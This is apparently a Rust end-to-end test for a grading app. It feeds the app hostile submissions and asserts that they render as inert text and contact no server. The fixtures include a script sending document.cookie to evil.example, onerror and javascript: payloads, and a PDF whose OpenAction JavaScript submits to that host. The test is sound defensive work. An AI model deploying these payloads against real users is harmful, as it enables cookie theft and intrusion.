//! Somebody hands in files that try to do something to whoever looks at them.

use crate::window::{Window, in_window_at, new_home, remember};
use assay_tests::archive::Entries;
use assay_tests::class::Class;
use serde_json::json;
use thirtyfour::error::WebDriverResult;

/// A page, a drawing and a text that run a script or fetch something when they are shown as what they say they are.
const HTML: &str = r#"<!doctype html><meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>window.ran = 'html'; fetch('https://evil.example/?' + document.cookie)</script>
<img src="https://evil.example/seen.png" onerror="window.ran = 'img'"><iframe src="https://evil.example/"></iframe>
<link rel="stylesheet" href="https://evil.example/a.css"><a href="javascript:window.ran = 'link'">The report</a>
<form action="https://evil.example/"><input name="passphrase"></form>"#;
const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="window.ran = 'svg'">
<script>window.ran = 'svg script'</script><image xlink:href="https://evil.example/seen.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>"#;
const MARKDOWN: &str = r#"# The report

<img src=x onerror="window.ran = 'markdown'"> ![seen](https://evil.example/seen.png)
[press here](javascript:window.ran='link') <script>window.ran = 'markdown script'</script>
"#;

/// What is shown of the chosen file.
const SHOWN: &str = "document.querySelector('[data-evidence] [role=tabpanel]')";

#[test]
fn hostile_files_are_shown_as_what_they_are_and_run_and_fetch_nothing() {
    let class = Class::new();
    let files: [(&str, Vec<u8>); 6] = [
        ("page.html", HTML.into()),
        ("drawing.svg", SVG.into()),
        ("report.md", MARKDOWN.into()),
        ("letter.pdf", pdf_that_acts()),
        ("page.jpg", HTML.into()),
        ("tool.exe", b"MZ\x90\0\x03\0\0\0".to_vec()),
    ];
    let entry = |(name, bytes): (&str, Vec<u8>)| {
        (format!("Ada Quillfeather_7000_assignsubmission_file/{name}"), bytes)
    };
    let entries: Entries = files.clone().into_iter().map(entry).collect();
    class.import(&entries).done();
    let home = new_home();
    remember(home.path(), &class.workspace, "Orla Bight");
    in_window_at("hostile", home.path(), async move |window| {
        window.open_recent().await?;
        window.heading("Queue").await?;
        window.press("button", "Judge the first").await?;
        window.until("document.querySelector('[data-evidence] [role=tab]')").await?;
        window.ask("window.ran = null; window.stayed = true;", vec![]).await?;
        for (name, _) in &files {
            look_at(&window, name).await?;
            if *name == "letter.pdf" {
                // It is drawn, so whatever it would do when it is drawn is done.
                window.until(&format!("({SHOWN}).innerText.includes('A letter that acts')")).await?;
            }
            window.is_sound(&format!("Review, {name}")).await?;
            assert_eq!(
                window.ask("return [window.ran, window.stayed];", vec![]).await?,
                json!([null, true]),
                "{name}"
            );
        }
        // What is looked at stands in the page as text, so that an assessor sees what was tried.
        look_at(&window, "report.md").await?;
        window.until("document.querySelector('[data-evidence]').innerText.includes('press here')").await?;
        let led = "return [...document.querySelectorAll('[data-evidence] :is(a, img, iframe, form, script)')].length;";
        assert_eq!(window.ask(led, vec![]).await?, json!(0), "nothing in it is alive");
        let fetched = "return performance.getEntriesByType('resource').map((one) => one.name)
            .filter((name) => name.includes('evil.example'));";
        assert_eq!(window.ask(fetched, vec![]).await?, json!([]));
        Ok(())
    });
}

/// Chooses a file, and waits until it or what is said of it is there.
async fn look_at(window: &Window, name: &str) -> WebDriverResult<()> {
    let tab = format!(
        "[...document.querySelectorAll('[data-evidence] [role=tab]')].find((tab) => tab.innerText.includes({}))",
        json!(name)
    );
    window.until(&tab).await?;
    window.ask(&format!("({tab}).click();"), vec![]).await?;
    window.until(&format!("({tab}).getAttribute('aria-selected') === 'true'")).await?;
    window.until(&format!("{SHOWN}?.innerText.trim().length > 20")).await
}

/// A PDF whose first page opens an address and runs a script as soon as it is shown.
fn pdf_that_acts() -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> \
         /AA << /O << /S /URI /URI (https://evil.example/) >> >> \
         /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example/) >> >>] >>",
        "<< /Length 52 >>\nstream\nBT /F1 18 Tf 20 120 Td (A letter that acts) Tj ET  \nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ];
    let mut pdf = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        places.push(pdf.len());
        pdf.extend(format!("{} 0 obj\n{object}\nendobj\n", number + 1).bytes());
    }
    let table = pdf.len();
    let rows: String = places.iter().map(|place| format!("{place:010} 00000 n \n")).collect();
    let count = objects.len() + 1;
    pdf.extend(format!("xref\n0 {count}\n0000000000 65535 f \n{rows}trailer << /Size {count} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n").bytes());
    pdf
}
